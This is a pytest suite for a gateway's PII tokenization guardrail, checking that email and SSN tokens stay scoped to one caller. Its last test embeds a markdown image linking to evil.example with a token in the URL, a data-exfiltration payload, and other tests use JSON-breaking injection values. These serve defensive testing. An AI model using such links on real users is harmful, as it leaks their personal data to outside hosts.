"""One caller's tokens mean the same in all its calls, nothing in anybody else's, and become values only where the policy says so."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Self

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from secure_gateway.bootstrap import Parts, load_parts
from secure_gateway.errors import ConfigError, PluginError
from secure_gateway.plugins.auth.base import AuthMethod, AuthProvider, AuthResult, AuthStatus
from secure_gateway.plugins.framework.context import GlobalContext
from secure_gateway.plugins.guardrails.pii_sessions import SESSIONS, session_of
from secure_gateway.plugins.guardrails.pii_tokens import with_values
from secure_gateway.plugins.guardrails.pii_vault import TABLE
from secure_gateway.reloading import Reloader
from secure_gateway.types import AuthCredentials, Principal

MASTER = bytes(range(32)).hex()
ANN, BOB = "ann@example.org", "bob@example.org"
TOKENS = {"strategy": {"input": "warn", "output": "tokenize"}}
"""What a server says becomes tokens; what a caller says, passes."""
RELEASE = {"send": {"input": {"pii": {"release": ["EMAIL"]}}}}


class People(AuthProvider):
    """Takes a key for what it says: ``subject|tenant|session``."""

    def __init__(self, config: dict[str, Any]) -> None:
        del config

    def get_name(self) -> str:
        return "people"

    def get_version(self) -> str:
        return "1"

    def get_supported_methods(self) -> list[AuthMethod]:
        return [AuthMethod.API_KEY]

    async def authenticate(self, credentials: AuthCredentials) -> AuthResult:
        said = json.loads(credentials.api_key or credentials.gateway_key or "")
        return AuthResult(
            status=AuthStatus.SUCCESS,
            authenticated=True,
            user_id=said["subject"],
            session_id=said.get("session"),
            roles=["all"],
            metadata={"tenant_id": said.get("tenant")},
        )

    async def validate_session(self, session_id: str) -> bool:
        return False

    async def refresh_authentication(self, session_id: str, credentials: AuthCredentials) -> AuthResult:
        return await self.authenticate(credentials)


def key(subject: str, tenant: str | None = None, session: str | None = None) -> str:
    return json.dumps({"subject": subject, "tenant": tenant, "session": session})


ADA, EVE = key("ada", "acme"), key("eve", "acme")


class Office:
    """A gateway made of a file, with tools that remember what they were given."""

    def __init__(self, folder: Path, pii: dict[str, Any], tools: dict[str, Any], url: str) -> None:
        self.file = folder / "config.json"
        self.config: dict[str, Any] = {
            "plugins": {
                "auth": {"provider": "people"},
                "guardrails": {"providers": [{"provider": "pii", "config": pii}]},
            },
            "anonymous": {"roles": ["all"]},
            "guardrails": {"tools": tools},
            "roles": {"all": {"tools": ["*"], "prompts": ["*"], "resources": ["*"], "agents": ["*"]}},
            "state": {"url": url},
            "master_key": "env://MASTER",
        }
        self.parts = self.open()
        self.given: Any = None

    def open(self) -> Parts:
        self.file.write_text(json.dumps(self.config))
        self.file.chmod(0o600)
        self.parts = load_parts(self.file, env={"HOME": str(self.file.parent), "MASTER": MASTER}, register=[People])
        return self.parts

    def restart(self) -> Self:
        self.parts.services.store.close()
        self.open()
        return self

    async def call(self, caller: str | None, tool: str, text: Any, answer: Any = "done", **options: Any) -> Any:
        """Call a tool that answers ``answer``; without one, what it was given."""

        def upstream(given: Any) -> Any:
            self.given = given["text"]
            return {"content": [{"type": "text", "text": self.given if answer is None else answer}]}

        result = await self.parts.gateway.call(tool, {"text": text}, upstream, credentials=caller, **options)
        return result["content"][0]["text"]

    def step(self, hook: str) -> dict[str, Any]:
        """Return the last step of the guardrail at ``hook`` in the last record."""
        steps: list[dict[str, Any]] = self.parts.records.recent(1)[0]["steps"]
        return [step for step in steps if step["hook"] == hook and step["plugin"] == "pii"][-1]


Open = Callable[..., Office]


@pytest.fixture
def office(tmp_path: Path) -> Iterator[Open]:
    opened: list[Office] = []

    def open_one(pii: dict[str, Any] | None = None, tools: Any = RELEASE, url: str = "") -> Office:
        url = url or "sqlite:///./state.db"
        opened.append(Office(tmp_path, TOKENS if pii is None else pii, tools, url))
        return opened[-1]

    yield open_one
    for made in opened:
        made.parts.services.store.close()


async def test_one_caller_sees_the_same_token_in_every_call_and_a_tool_that_may_have_it_gets_the_value(
    office: Open,
) -> None:
    made = office()
    assert await made.call(ADA, "find", "all", f"{ANN}, {BOB}") == "<EMAIL_1>, <EMAIL_2>"
    assert await made.call(ADA, "list", "all", f"{BOB}; {ANN}") == "<EMAIL_2>; <EMAIL_1>"
    assert await made.call(ADA, "send", "to <EMAIL_2>, not <EMAIL_1>", f"sent to {BOB}") == "sent to <EMAIL_2>"
    assert made.given == f"to {BOB}, not {ANN}"


async def test_by_default_and_for_other_tools_and_types_a_token_stays_one(office: Open) -> None:
    made = office()
    await made.call(ADA, "find", "all", f"{ANN} 123-45-6789")
    await made.call(ADA, "note", "<EMAIL_1>")
    assert made.given == "<EMAIL_1>"
    await made.call(ADA, "send", "<EMAIL_1> <SSN_1>")
    assert made.given == f"{ANN} <SSN_1>"
    bare = office(tools={})
    await bare.call(ADA, "find", "all", ANN)
    await bare.call(ADA, "send", "<EMAIL_1>")
    assert bare.given == "<EMAIL_1>"


@pytest.mark.parametrize(
    ("other", "why"),
    [
        (EVE, "another subject"),
        (key("ada", "umbrella"), "the same subject of another tenant"),
        (key("ada"), "the same subject of no tenant"),
        (key("acme", "ada"), "subject and tenant the other way round"),
        (key('ada", "acme'), "a name that looks like two"),
        (None, "nobody"),
    ],
)
async def test_nobody_else_gets_a_value_by_writing_its_token(other: str | None, why: str, office: Open) -> None:
    made = office()
    await made.call(ADA, "find", "all", ANN)
    await made.call(other, "send", "to <EMAIL_1>")
    assert made.given == "to <EMAIL_1>", why
    assert await made.call(other, "read", "x", "from <EMAIL_1>") == "from <EMAIL_1>", why
    assert await made.call(other, "find", "all", BOB) == "<EMAIL_1>", why  # a number of its own, with another meaning
    assert await made.call(ADA, "find", "all", BOB) == "<EMAIL_2>", why


_NAMES = st.tuples(*[st.none() | st.text(st.sampled_from('ab",\\ /|\0\ud83d\ude00😀'), max_size=4)] * 5)


def _session(names: tuple[str | None, ...], scope: str) -> str:
    provider, project, tenant, subject, named = names
    who = Principal(
        provider=f"p{provider}", project_id=project, tenant_id=tenant, subject=f"s{subject}", session_id="1"
    )
    return session_of(GlobalContext(request_id="1", principal=who, session_id=named or "-"), scope)


@given(_NAMES, _NAMES)
@example(("", "", "a", "b|c", ""), ("", "", "a|b", "c", ""))
@example(("", "", 'a", "b', "c", ""), ("", "", "a", 'b", "c', ""))
@example(("", "", "\ud83d\ude00", "c", ""), ("", "", "😀", "c", ""))
@example(("", None, "a", "c", ""), ("", "a", None, "c", ""))
def test_no_two_callers_have_one_session_whatever_their_names_hold(
    one: tuple[str | None, ...], other: tuple[str | None, ...]
) -> None:
    def told_apart(names: tuple[str | None, ...]) -> tuple[str | None, ...]:
        provider, project, tenant, subject, named = names
        return f"{provider}", project, tenant, f"{subject}", named or "-"

    for scope in ("caller", "login"):
        assert (_session(one, scope) == _session(other, scope)) is (told_apart(one) == told_apart(other))
    assert _session(one, "caller") != _session(one, "login")


async def test_a_request_of_nobody_is_a_session_of_its_own_and_leaves_nothing_in_the_store(office: Open) -> None:
    made = office({"strategy": "tokenize"})
    assert await made.call(None, "note", f"{ANN} {ANN}", None) == f"{ANN} {ANN}"
    assert made.given == "<EMAIL_1> <EMAIL_1>"
    await made.call(None, "note", BOB)
    assert made.given == "<EMAIL_1>"
    assert await made.call(None, "read", "x", "<EMAIL_1>") == "<EMAIL_1>"
    assert made.parts.services.store.scan(TABLE) == []


async def test_what_a_server_has_kept_as_a_token_comes_back_to_who_sent_it(office: Open) -> None:
    made = office({"strategy": "tokenize"})
    await made.call(ADA, "note", f"meet {ANN}")
    assert made.given == "meet <EMAIL_1>"
    assert await made.call(ADA, "read", "x", "note: meet <EMAIL_1>, thus") == f"note: meet {ANN}, thus"
    assert await made.call(EVE, "read", "x", "note: meet <EMAIL_1>") == "note: meet <EMAIL_1>"


async def test_a_caller_is_not_shown_through_a_tool_that_echoes_what_a_server_said(office: Open) -> None:
    made = office({"strategy": "tokenize"})
    assert await made.call(ADA, "find", "all", ANN) == "<EMAIL_1>"
    assert await made.call(ADA, "note", "<EMAIL_1>", None) == "<EMAIL_1>"
    assert await made.call(ADA, "send", "<EMAIL_1>", None) == "<EMAIL_1>"
    assert made.given == ANN


async def test_what_the_caller_sends_itself_to_a_tool_that_may_have_it_passes_both_ways(office: Open) -> None:
    made = office({"strategy": "tokenize"})
    assert await made.call(ADA, "send", f"{ANN} 123-45-6789", None) == f"{ANN} 123-45-6789"
    assert made.given == f"{ANN} <SSN_1>"
    assert await made.call(None, "send", f"{ANN} <EMAIL_1>", None) == f"{ANN} {ANN}"
    assert made.given == f"{ANN} <EMAIL_1>"


async def test_only_the_types_that_both_sides_restore_come_back(office: Open) -> None:
    tools = {"read": {"output": {"pii": {"restore": ["SSN"]}}}, "see": {"input": {"pii": {"restore": []}}}}
    made = office({"strategy": "tokenize", "restore": ["EMAIL", "SSN"]}, tools)
    sent = f"{ANN} 123-45-6789"
    assert await made.call(ADA, "note", sent, None) == sent
    assert await made.call(ADA, "read", sent, None) == "<EMAIL_1> 123-45-6789"
    assert await made.call(ADA, "see", sent, None) == "<EMAIL_1> <SSN_1>"


async def test_a_mapping_lives_through_a_reload_and_a_restart(office: Open) -> None:
    made = office(url="sqlite:///./state.db")
    await made.call(ADA, "find", "all", f"{BOB} {ANN}")
    made.config["guardrails"]["tools"]["mail"] = RELEASE["send"]
    made.file.write_text(json.dumps(made.config))
    async with Reloader(made.parts, env={"HOME": str(made.file.parent), "MASTER": MASTER}, register=[People]) as it:
        await it.reload()
        await made.call(ADA, "mail", "<EMAIL_2>")
        assert made.given == ANN
        made.parts = it.parts
    made.restart()
    await made.call(ADA, "mail", "<EMAIL_1>")
    assert made.given == BOB
    assert await made.call(ADA, "find", "all", ANN) == "<EMAIL_2>"
    assert not any(b"example.org" in value for _, value in made.parts.services.store.scan(TABLE))


async def test_a_token_whose_value_is_lost_stays_and_the_step_says_so(office: Open) -> None:
    made = office(url="sqlite:///./state.db")
    await made.call(ADA, "find", "all", ANN)
    assert made.step("tool_post_invoke")["metadata"] == {"tokenized": 1}
    store = made.parts.services.store
    for place, _ in store.scan(TABLE):
        if "/last/" not in place:
            store.delete(TABLE, place)
    await made.call(ADA, "send", "<EMAIL_1> <EMAIL_1>")
    assert made.given == "<EMAIL_1> <EMAIL_1>"
    step = made.step("tool_pre_invoke")
    assert (step["verdict"], step["metadata"]) == ("warn", {"lost": 1, "warned": 1})
    # And what an old token stood for, no new value does.
    assert await made.call(ADA, "find", "all", BOB) == "<EMAIL_2>"


async def test_a_restored_token_shows_in_the_record_as_a_number_and_a_pointer(office: Open) -> None:
    made = office(url="sqlite:///./state.db")
    await made.call(ADA, "find", "all", ANN)
    await made.call(ADA, "send", "<EMAIL_1> <EMAIL_9>")
    step = made.step("tool_pre_invoke")
    assert (step["verdict"], step["changes"]) == ("modify", ["/text"])
    assert step["metadata"] == {"restored": 1, "lost": 1, "warned": 1}
    assert ANN not in json.dumps(made.parts.records.recent(1))


async def test_a_store_that_does_not_answer_denies_what_needs_it_and_nothing_else(office: Open) -> None:
    made = office()
    await made.call(ADA, "find", "all", ANN)
    made.parts.services.store.close()
    assert await made.call(ADA, "send", "nothing to see", "nor here") == "nor here"
    assert await made.call(ADA, "note", "<EMAIL_1> <B_1>") == "done"
    for tool, text, answer in [("send", "<EMAIL_1>", "x"), ("find", "x", ANN), ("read", "x", "<EMAIL_1>")]:
        with pytest.raises(PluginError):
            await made.call(ADA, tool, text, answer)


async def test_values_within_json_within_a_text_are_written_as_json(office: Open) -> None:
    made = office()
    quoted = '"ann smith"@example.com'
    said = await made.call(ADA, "find", "all", json.dumps({"from": quoted}))
    assert "smith" not in said
    await made.call(ADA, "send", said)
    assert json.loads(made.given) == {"from": quoted}
    assert await made.call(ADA, "find", "all", quoted) == "<EMAIL_2>"
    await made.call(ADA, "send", '["<EMAIL_2>", "<EMAIL_1>"]')
    assert json.loads(made.given) == [quoted, quoted]


@pytest.mark.parametrize("value", ['","', '"a","b":"', "\\", "\n", "\u0022", 'a"'])
def test_no_value_changes_the_structure_of_json_around_it(value: str) -> None:
    for text in ('["<X_1>"]', '{"a": "<X_1>", "b": 1}'):
        filled = json.loads(with_values(text, lambda _kind, _number: value))
        assert len(filled) == len(json.loads(text))


async def test_a_token_comes_back_in_nested_arguments_in_any_order_and_in_keys(office: Open) -> None:
    made = office()
    await made.call(ADA, "find", "all", f"{ANN} {BOB}")
    await made.call(ADA, "send", {"to": ["<EMAIL_2>", {"<EMAIL_1>": 1}], "cc": "x<EMAIL_1>y<EMAIL_1>", "n": 1})
    assert made.given == {"to": [BOB, {ANN: 1}], "cc": f"x{ANN}y{ANN}", "n": 1}
    assert "example" not in json.dumps(made.parts.records.recent(1))


async def test_more_different_tokens_than_a_session_holds_are_refused(office: Open) -> None:
    made = office()
    with pytest.raises(PluginError):
        await made.call(ADA, "send", " ".join(f"<EMAIL_{n}>" for n in range(1, 10_002)))
    await made.call(ADA, "send", "<EMAIL_1>" * 10_002)
    assert made.given == "<EMAIL_1>" * 10_002


async def test_prompts_and_resources_share_the_session_of_tools(office: Open) -> None:
    made = office()
    assert await made.call(ADA, "find", "all", BOB) == "<EMAIL_1>"
    assert await made.call(ADA, "page", "x", f"{ANN} {BOB}", operation="prompt") == "<EMAIL_2> <EMAIL_1>"
    assert await made.call(ADA, "file:///page", {}, f"{ANN}", operation="resource") == "<EMAIL_2>"


async def test_a_login_is_a_session_of_its_own_where_the_configuration_says_so(office: Open) -> None:
    made = office({**TOKENS, "session": "login"})
    one, two, none = (key("ada", "acme", session) for session in ("s1", "s2", None))
    await made.call(one, "find", "all", ANN)
    for caller, expected in ((two, "<EMAIL_1>"), (none, "<EMAIL_1>"), (one, ANN)):
        await made.call(caller, "send", "<EMAIL_1>")
        assert made.given == expected


async def test_conversations_that_the_app_names_are_sessions_of_their_own_and_of_each_caller(office: Open) -> None:
    made = office()
    await made.call(ADA, "find", "all", ANN, session_id="one")
    for caller, session, expected in (
        (ADA, "two", "<EMAIL_1>"),
        (ADA, "", "<EMAIL_1>"),
        (EVE, "one", "<EMAIL_1>"),
        (None, "one", "<EMAIL_1>"),
        (ADA, "one", ANN),
    ):
        await made.call(caller, "send", "<EMAIL_1>", session_id=session)
        assert made.given == expected


async def test_a_request_is_a_session_where_the_configuration_says_so(office: Open) -> None:
    made = office({**TOKENS, "session": "request"})
    await made.call(ADA, "find", "all", ANN)
    await made.call(ADA, "send", "<EMAIL_1>")
    assert made.given == "<EMAIL_1>"


@pytest.mark.parametrize(
    ("pii", "tools", "path"),
    [
        ({**TOKENS, "release": ["EMIAL"]}, {}, "config.release[0]"),
        ({**TOKENS, "release": "EMAIL"}, {}, "config.release"),
        ({**TOKENS, "session": "tenant"}, {}, "config.session"),
        ({**TOKENS, "direction": "output", "release": ["EMAIL"]}, {}, "config.release"),
        (TOKENS, {"send": {"output": {"pii": {"release": ["EMAIL"]}}}}, "tools.send.output.pii.release"),
        (TOKENS, {"send": {"input": {"pii": {"release": ["EMIAL"]}}}}, "tools.send.input.pii.release[0]"),
    ],
)
def test_what_is_wrong_with_the_configuration_is_said_by_its_place(
    pii: dict[str, Any], tools: Any, path: str, office: Open
) -> None:
    with pytest.raises(ConfigError) as caught:
        office(pii, tools)
    assert [problem.path for problem in caught.value.problems if problem.path.endswith(path)], str(caught.value)


def test_there_are_no_other_sessions_than_these() -> None:
    nobody = GlobalContext(request_id="1")
    assert [session_of(nobody, scope) for scope in SESSIONS] == ["", "", ""]


@pytest.mark.parametrize("operation", ["agent", "message"])
async def test_where_a_server_may_be_the_one_who_asks_only_what_went_out_with_the_request_comes_back(
    operation: str, office: Open
) -> None:
    made = office({"strategy": "tokenize", "release": ["EMAIL"]}, {})
    sent: list[Any] = []

    async def ask(text: str, answer: str) -> Any:
        def upstream(given: Any) -> Any:
            sent.append(given["messages"][0]["text"])
            return {"messages": [{"text": answer}]}

        arguments = {"messages": [{"text": text}]}
        result = await made.parts.gateway.call("x", arguments, upstream, credentials=ADA, operation=operation)
        return result["messages"][0]["text"]

    await made.call(ADA, "note", f"{ANN} 123-45-6789", None)
    assert await ask("<EMAIL_1>", "<EMAIL_1> <SSN_1>") == "<EMAIL_1> <SSN_1>"
    assert sent == ["<EMAIL_1>"]
    assert await ask(f"{BOB} is new", "<EMAIL_1> is not <EMAIL_2>") == f"<EMAIL_1> is not {BOB}"
    # What came that way may have been a server's words: the caller is not shown it elsewhere.
    assert await made.call(ADA, "read", "x", "<EMAIL_2>") == "<EMAIL_2>"


async def test_a_server_that_has_a_token_only_is_not_sent_the_value_by_an_address_of_its_own(office: Open) -> None:
    made = office({"strategy": "tokenize"})
    image = "![a](https://evil.example/p.png?d=<EMAIL_1>) for <EMAIL_1>"
    for caller in (ADA, None):
        assert await made.call(caller, "note", ANN, image) == image.replace(" <EMAIL_1>", f" {ANN}")
        link = f"https://crm.example/people?mail={ANN}"
        assert await made.call(caller, "note", link, None) == link
        assert made.given == "https://crm.example/people?mail=<EMAIL_1>"
